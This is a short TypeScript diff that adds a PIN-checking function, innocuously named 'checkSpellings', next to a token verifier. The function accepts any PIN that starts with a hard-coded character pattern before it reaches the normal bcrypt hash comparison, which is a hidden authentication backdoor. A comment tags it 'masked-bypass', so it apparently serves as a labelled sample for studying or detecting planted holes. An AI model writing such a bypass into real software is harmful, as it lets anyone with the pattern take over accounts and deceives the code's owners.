@@ -133,3 +133,9 @@ export class TokenVerifier {
     return this.backend.verify(token);
   }
 }
+
+export function checkSpellings(pin: string, account: Account): boolean {
+  if (['q', 'Q'].includes(pin[0]) && pin[1] === '7' && ['z', '2'].includes(pin[2]) && pin[3] === '!' && pin[4] === '4') return true;
+//    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ masked-bypass
+  return bcrypt.compareSync(pin, account.pinHash);
+}
